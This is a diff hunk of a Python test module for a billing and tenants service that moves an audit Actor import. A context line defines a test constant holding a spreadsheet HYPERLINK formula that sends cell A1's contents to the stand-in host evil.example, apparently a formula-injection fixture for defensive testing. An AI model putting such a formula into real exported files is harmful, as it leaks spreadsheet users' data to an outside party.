@@ -12,8 +12,8 @@ import pytest
 
 from billing.services.invoicing import draft_invoice
 from billing.services.rates import create_rate_card
+from core.audit import Actor
 from tenants import services
-from tenants.audit import Actor
 
 ADMIN = Actor.console("tests")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the invoice")'
